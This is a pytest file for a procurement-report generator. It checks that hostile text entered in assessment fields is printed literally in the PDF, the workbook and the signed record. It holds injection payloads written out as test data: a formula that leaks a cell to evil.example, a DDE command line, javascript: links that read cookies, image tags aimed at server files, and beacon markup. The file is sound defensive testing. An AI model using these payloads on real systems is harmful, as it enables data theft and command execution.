"""Hostile text reaches the PDF, the workbook and the record literally: nothing interpreted."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader

from osai_procure.engine import evaluate
from osai_procure.models.report import SignOff
from osai_procure.render.xlsx import sheet_name
from osai_procure.signing import ReportSet, export_reports, load_public_key, verify_report
from tests.reports.helpers import (
    GENERATED_AT,
    answers_from,
    make_keys,
    mini_bundle,
    mini_library,
    mixed_answers,
    needs_poppler,
    pdftotext,
)

CONTROL = "tab\tand\x00nul\x07bell\x1besc\x7fdel\x85nel\u202eRTL"
HOSTILE = (
    "<b>bold never closed",
    "AT&T; R&D &amp; &#60; &nbsp;",
    "Looks fine <font size=90 color=white>HIDDEN GIANT</font> end",
    '<a href="javascript:alert(1)">click me</a>',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1-2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "😀👨‍👩‍👧 𠮷野家 ✅",
    "]]><![CDATA[x]]> %PDF-1.4 \\(paren\\) )( /Name",
)
LONG = "長文の回答、" * 5_500 + "END-OF-LONG-ANSWER"


def _hostile_answers(image: Path) -> dict[str, Any]:
    """An answers document with hostile text in every user field."""
    data = mixed_answers().model_dump(mode="json")
    image_tag = f'<img src="{image}" width="400" height="400"/>'
    data["assessment"] = {
        "title": HOSTILE[0] + " " + HOSTILE[2],
        "procurement_id": HOSTILE[5],
        "agency": image_tag + " " + HOSTILE[1],
        "system": {"name": HOSTILE[3], "version": HOSTILE[6], "provider": HOSTILE[4]},
    }
    data["answers"]["reviewer_notes"] = {
        "value": LONG,
        "note": " | ".join(HOSTILE) + " " + CONTROL,
        "answered_by": HOSTILE[8],
        "answered_at": HOSTILE[7],
        "evidence": [
            {"url": "javascript:alert(document.cookie)", "note": HOSTILE[2]},
            {"url": f"file://{image}", "note": image_tag},
            {"url": 'https://ok.example/"onmouseover="x', "note": HOSTILE[9]},
        ],
    }
    data["answers"]["model_parameters_final"]["value"]["license"] = HOSTILE[4]
    data["answers"]["model_parameters_final"]["note"] = CONTROL
    data["answers"]["sources"] = {"value": [HOSTILE[3], "javascript:alert(2)"]}
    return data


def _hostile_signoff() -> SignOff:
    """A sign-off whose names and comments are hostile too."""
    return SignOff.model_validate(
        {
            "preparer": {
                "name": HOSTILE[0],
                "title": HOSTILE[5],
                "organisation": HOSTILE[4],
                "date": "2026-05-10",
                "decision": "approved",
                "comment": CONTROL,
            },
            "approver": {
                "name": HOSTILE[10],
                "date": "2026-05-12",
                "decision": "approved",
                "comment": HOSTILE[2] + "\n" + HOSTILE[3],
            },
        }
    )


@pytest.fixture(scope="module")
def server_image(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real image file on the 'server' that an interpreted <img> tag would embed."""
    path = tmp_path_factory.mktemp("server") / "secret.png"
    Image.new("RGB", (64, 64), (255, 0, 0)).save(path)
    return path


@pytest.fixture(scope="module", params=["ja", "en"])
def hostile(
    request: pytest.FixtureRequest, server_image: Path, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, ReportSet]:
    """The hostile report, signed, in each language."""
    lang = request.param
    keys = make_keys(tmp_path_factory.mktemp("keys") / "keys")
    bundle = mini_bundle()
    answers = answers_from(_hostile_answers(server_image))
    result = export_reports(
        bundle,
        answers,
        evaluate(bundle, answers),
        _hostile_signoff(),
        GENERATED_AT,
        lang=lang,
        keys=keys,
    )
    assert verify_report(result.document, keys.public_key, library=mini_library()).ok
    return lang, result


def _squash(text: str) -> str:
    """Text without whitespace, to compare across line breaks."""
    return re.sub(r"\s+", "", text)


@needs_poppler
def test_pdf_shows_markup_literally(hostile: tuple[str, ReportSet], tmp_path: Path) -> None:
    """Tags, entities and formulas print as written; nothing becomes bold, big, a link or image."""
    _, result = hostile
    assert result.pdf is not None
    text = _squash(pdftotext(result.pdf, tmp_path))
    for needle in (
        "<b>bold never closed",
        "AT&T; R&D &amp; &#60; &nbsp;",
        "<font size=90 color=white>HIDDEN GIANT</font>",
        '<a href="javascript:alert(1)">click me</a>',
        '<img src="',
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(A1:A2)",
        "]]><![CDATA[x]]>",
        "END-OF-LONG-ANSWER",
    ):
        assert _squash(needle) in text, needle


def test_pdf_embeds_no_server_file_and_links_only_http(hostile: tuple[str, ReportSet]) -> None:
    """No image is embedded and every link annotation is http(s)."""
    _, result = hostile
    assert result.pdf is not None
    reader = PdfReader(io.BytesIO(result.pdf))
    uris = []
    for page in reader.pages:
        assert list(page.images) == []
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            if action is not None and "/URI" in action:
                uris.append(str(action["/URI"]))
    assert all(u.startswith(("http://", "https://")) for u in uris), uris
    assert not any("javascript" in u or "file:" in u or '"' in u for u in uris)
    assert b"/Subtype /Image" not in result.pdf


@needs_poppler
def test_pdf_shows_control_characters_and_missing_glyphs(
    hostile: tuple[str, ReportSet], tmp_path: Path
) -> None:
    """Control characters, bidi overrides, emoji and rare CJK appear as [U+XXXX]."""
    _, result = hostile
    assert result.pdf is not None
    text = pdftotext(result.pdf, tmp_path)
    for code in (
        "U+0000",
        "U+0007",
        "U+001B",
        "U+007F",
        "U+0085",
        "U+202E",
        "U+1F600",
        "U+20BB7",
        "U+2705",
    ):
        assert code in text, code
    assert "野家" in text


@needs_poppler
def test_pdf_long_answer_is_complete(hostile: tuple[str, ReportSet], tmp_path: Path) -> None:
    """A 33,000-character answer flows over pages in the appendix without loss."""
    _, result = hostile
    assert result.pdf is not None
    text = _squash(pdftotext(result.pdf, tmp_path))
    pages = len(PdfReader(io.BytesIO(result.pdf)).pages)
    assert pages > 15
    # Each page break may interrupt one repetition with the running header and footer.
    assert text.count("長文の回答") >= 5_500 - pages
    assert "END-OF-LONG-ANSWER" in text


def test_workbook_has_text_not_formulas(hostile: tuple[str, ReportSet]) -> None:
    """Formula-like strings are stored as text with a quote prefix; nothing is a formula."""
    _, result = hostile
    assert result.xlsx is not None
    book = load_workbook(io.BytesIO(result.xlsx))
    seen: dict[str, Any] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.setdefault(cell.value, cell)
    for value in (HOSTILE[4], HOSTILE[5], HOSTILE[6], HOSTILE[7], HOSTILE[8]):
        cell = seen[value]
        assert cell.data_type == "s" and cell.quotePrefix, value
    assert seen[HOSTILE[3]].data_type == "s"


def test_workbook_shows_control_characters(hostile: tuple[str, ReportSet]) -> None:
    """Characters XML cannot hold become [U+XXXX]; tabs and text around them stay."""
    lang, result = hostile
    assert result.xlsx is not None
    book = load_workbook(io.BytesIO(result.xlsx))
    notes = [
        r[9]
        for r in book[sheet_name("Answers", lang)].iter_rows(min_row=2, values_only=True)
        if r[2] == "reviewer_notes" and r[9]
    ]
    assert notes and "nul[U+0000]" not in notes[0]  # U+0000 is replaced...
    assert "and[U+0000]nul[U+0007]bell[U+001B]esc" in notes[0]  # ...visibly, in place
    assert "tab\tand" in notes[0] and "\u202eRTL" in notes[0]


def test_workbook_long_answer_is_complete(hostile: tuple[str, ReportSet]) -> None:
    """The long answer is split over continuation rows and reassembles exactly."""
    lang, result = hostile
    assert result.xlsx is not None
    book = load_workbook(io.BytesIO(result.xlsx))
    rows = [
        r[6]
        for r in book[sheet_name("Answers", lang)].iter_rows(min_row=2, values_only=True)
        if r[2] == "reviewer_notes"
    ]
    assert len(rows) == 2 and "".join(rows) == LONG


def test_record_keeps_the_exact_text(hostile: tuple[str, ReportSet]) -> None:
    """The JSON record keeps every hostile string exactly, control characters included."""
    _, result = hostile
    data = json.loads(result.document)["record"]
    note = data["answers"]["reviewer_notes"]["note"]
    assert note == " | ".join(HOSTILE) + " " + CONTROL
    assert data["assessment"]["system"]["name"] == HOSTILE[3]
    assert data["answers"]["reviewer_notes"]["value"] == LONG


def test_signed_hostile_workbook_and_pdf_verify(hostile: tuple[str, ReportSet]) -> None:
    """Hostile input still gives files that verify (the checks are not fooled or crashed)."""
    _, result = hostile
    assert result.pdf is not None and result.xlsx is not None
    assert result.report.seal is not None and result.report.seal.envelope is not None
    signer = result.report.seal.envelope.public_key
    for data in (result.pdf, result.xlsx):
        outcome = verify_report(data, load_public_key(signer.encode()), library=mini_library())
        assert outcome.ok, outcome.failures


def test_very_long_text_in_every_field_renders() -> None:
    """Huge titles, names, licences and comments are cut in table cells, never crash a page."""
    from osai_procure.render.pdf import render_pdf
    from osai_procure.render.xlsx import render_xlsx
    from osai_procure.report import build_report

    data = mixed_answers().model_dump(mode="json")
    data["assessment"]["title"] = "A" * 20_000
    data["assessment"]["agency"] = "庁" * 20_000
    data["answers"]["model_parameters_final"]["value"]["license"] = "L" * 3_000
    data["answers"]["reviewer_notes"] = {
        "value": "B" * 20_000,
        "evidence": [{"url": "https://e.example/" + "p" * 3_000, "note": "n" * 5_000}],
    }
    answers = answers_from(data)
    bundle = mini_bundle()
    approver = {
        "name": "X" * 2_000,
        "date": "2026-05-12",
        "decision": "approved",
        "comment": "c" * 20_000,
    }
    report = build_report(
        bundle,
        answers,
        evaluate(bundle, answers),
        SignOff.model_validate({"approver": approver}),
        GENERATED_AT,
    )
    for lang in ("ja", "en"):
        pdf = render_pdf(report, lang)
        text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
        assert "全文は付録A" in text if lang == "ja" else "full text in Appendix A" in text
        assert render_xlsx(report, lang)


def test_policy_text_is_user_data_too(tmp_path: Path) -> None:
    """Markup in an agency's policy YAML (titles, remediation, clauses) prints literally."""
    import shutil

    from osai_procure.loading import ContentLibrary, load_policy
    from osai_procure.render.pdf import render_pdf
    from osai_procure.report import build_report
    from tests.reports.helpers import CONTENT

    root = tmp_path / "content"
    shutil.copytree(CONTENT, root)
    path = root / "policies" / "report-mini.yaml"
    text = path.read_text(encoding="utf-8").replace(
        "Ask the vendor to release the weights under OSI-approved terms.",
        '\'<font size=90 color=white>HIDDEN</font> <img src="/etc/hostname"/> & '
        + "long " * 2_000
        + "'",
    )
    path.write_text(text, encoding="utf-8")
    bundle = load_policy(path, ContentLibrary.from_root(root))
    answers = mixed_answers()
    report = build_report(
        bundle, answers, evaluate(bundle, answers), _hostile_signoff(), GENERATED_AT
    )
    pdf = render_pdf(report, "en")
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
    assert "<font size=90 color=white>HIDDEN</font>" in re.sub(r"\s+", " ", text)
    assert b"/Subtype /Image" not in pdf


BEACON = "127.0.0.1:9"


def _beacon(field: str) -> str:
    """Markdown and HTML that would fetch or link a local beacon if interpreted."""
    return (
        f"{field} ![i](http://{BEACON}/m-{field}.png) [l](http://{BEACON}/l-{field}) "
        f"<img src=http://{BEACON}/h-{field}.png> :red[r]"
    )


@pytest.fixture(scope="module")
def beacon_reports(tmp_path_factory: pytest.TempPathFactory) -> ReportSet:
    """A signed report whose every user-typed field points at the beacon."""
    keys = make_keys(tmp_path_factory.mktemp("keys") / "keys")
    data = mixed_answers().model_dump(mode="json")
    data["assessment"] = {
        "title": _beacon("title"),
        "procurement_id": _beacon("proc"),
        "agency": _beacon("agency"),
        "system": {"name": _beacon("name"), "version": _beacon("v"), "provider": _beacon("p")},
    }
    data["answers"]["reviewer_notes"] = {"value": _beacon("answer"), "note": _beacon("note")}
    data["answers"]["model_parameters_final"]["value"]["license"] = _beacon("licence")
    signer = {"date": "2026-05-10", "decision": "approved", "comment": _beacon("comment")}
    signoff = SignOff.model_validate(
        {
            role: {**signer, "name": _beacon(role), "title": _beacon("t"), "organisation": "o"}
            for role in ("preparer", "approver")
        }
    )
    bundle = mini_bundle()
    answers = answers_from(data)
    return export_reports(
        bundle, answers, evaluate(bundle, answers), signoff, GENERATED_AT, lang="en", keys=keys
    )


def test_pdf_beacon_markup_is_neither_link_nor_image(beacon_reports: ReportSet) -> None:
    """Markdown image and link syntax in every field: no annotation or image leads to it."""
    assert beacon_reports.pdf is not None
    reader = PdfReader(io.BytesIO(beacon_reports.pdf))
    text = "".join(page.extract_text() or "" for page in reader.pages)
    assert "![i](http://" in text, "the markup is printed as typed"
    for page in reader.pages:
        assert list(page.images) == []
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A") or {}
            assert BEACON not in str(action.get("/URI", "")), action
    assert b"/Subtype /Image" not in beacon_reports.pdf


def test_workbook_beacon_markup_is_plain_text(beacon_reports: ReportSet) -> None:
    """In the workbook the same fields are text cells: no hyperlink, no external link or image."""
    assert beacon_reports.xlsx is not None
    book = load_workbook(io.BytesIO(beacon_reports.xlsx))
    typed = [
        cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and BEACON in cell.value
    ]
    assert typed, "the markup is in the workbook as typed"
    assert all(cell.hyperlink is None and cell.data_type == "s" for cell in typed)
    with zipfile.ZipFile(io.BytesIO(beacon_reports.xlsx)) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                assert BEACON.encode() not in archive.read(name), name
